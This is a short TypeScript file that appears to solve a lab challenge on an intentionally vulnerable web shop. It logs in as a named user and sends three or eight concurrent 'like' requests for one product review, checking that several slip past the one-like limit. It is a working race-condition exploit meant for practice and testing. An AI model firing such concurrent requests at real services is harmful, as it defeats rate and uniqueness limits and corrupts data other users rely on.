import type { Attack, Http, Tools } from '#lab'
import { type Review, tokenOf } from './steps.ts'

async function firstReview(http: Http, product = 1): Promise<Review> {
  const answer = await http.get(`/rest/products/${product}/reviews`)
  const [review] = answer.json<{ data: Review[] }>().data
  if (!review) throw new Error('there is no review')
  return review
}

/** Sends this many likes for one review before the first is answered. */
async function race(tools: Tools, likes: number): Promise<void> {
  const { http, expect } = tools
  const token = await tokenOf(tools, 'mc.safesearch', 'Mr. N00dles')
  const { _id: id } = await firstReview(http)
  const sent = Array.from({ length: likes }, () => http.post('/rest/products/reviews', { id }, { token }))
  const accepted = (await Promise.all(sent)).filter(({ status }) => status === 200).length
  expect(accepted >= 3, `${accepted} of ${likes} likes were accepted`)
}

const challenge = 'timingAttackChallenge'

export const attacks: Attack[] = [
  { challenge, name: 'three likes at once', run: (tools) => race(tools, 3) },
  { challenge, name: 'eight likes at once', run: (tools) => race(tools, 8) },
]
